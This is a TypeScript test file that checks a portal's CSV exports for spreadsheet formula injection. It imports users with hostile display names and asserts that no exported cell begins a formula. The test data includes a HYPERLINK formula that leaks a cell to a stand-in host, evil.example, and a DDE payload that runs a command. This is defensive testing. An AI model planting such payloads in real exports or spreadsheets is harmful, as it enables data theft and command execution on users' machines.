import { describe, expect, it } from 'vitest';
import { CSV_FORMULA_START, splitCsvLikeASpreadsheet } from '../../common/domain/csv-cell';
import type { ImportJob } from '../../common/portal-api/users';
import { sharedSignedInPortal } from '../test-support';

/**
 * Every CSV the portal exports (users, rights matrix, activation codes) read as a spreadsheet does with
 * either separator: with hostile display names in it, no cell may start a formula.
 */
const shared = sharedSignedInPortal();

const HOSTILE_NAMES = [
  'x;=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
  '=1+2',
  '@SUM(A1:A9)',
  '+49 711 4711',
  '-2+3',
  'Schmidt, =cmd|" /C calc"!A0',
  'Maier;"=1+1"',
  '\t=1',
];

function expectNoFormulaCell(csv: string): void {
  for (const separator of [',', ';'] as const) {
    for (const row of splitCsvLikeASpreadsheet(csv, separator)) {
      for (const cell of row) expect(cell, `read with "${separator}"`).not.toMatch(CSV_FORMULA_START);
    }
  }
}

async function importWithHostileNames(): Promise<ImportJob> {
  const rows = HOSTILE_NAMES.map((displayName, index) => ({ login: `csv.import${index}`, displayName }));
  const started = await shared.api('POST', '/users/import', { body: { rows } });
  expect(started.status).toBe(202);
  let job = started.json<ImportJob>();
  for (let attempt = 0; attempt < 400 && job.state === 'running'; attempt += 1) {
    await new Promise((resolve) => setTimeout(resolve, 25));
    job = (await shared.api('GET', `/users/import/${job.id}`)).json<ImportJob>();
  }
  expect(job).toMatchObject({ state: 'done', created: HOSTILE_NAMES.length });
  return job;
}

describe('CSV exports under comma and semicolon splitting', () => {
  it('activation codes, users export and rights matrix hold the hostile names only as text', async () => {
    const job = await importWithHostileNames();

    const codes = await shared.api('GET', `/users/import/${job.id}/activation-codes`);
    expect(codes.status).toBe(200);
    expect(codes.text).toContain("'=1+2");
    expectNoFormulaCell(codes.text);

    const users = await shared.api('GET', '/users/export?q=csv.import');
    expect(users.status).toBe(200);
    expect(splitCsvLikeASpreadsheet(users.text, ',')).toHaveLength(HOSTILE_NAMES.length + 1);
    expectNoFormulaCell(users.text);

    const matrix = await shared.api('GET', '/rights/matrix.csv');
    expect(matrix.status).toBe(200);
    expect(matrix.text).toContain('csv.import0');
    expectNoFormulaCell(matrix.text);
  });
});
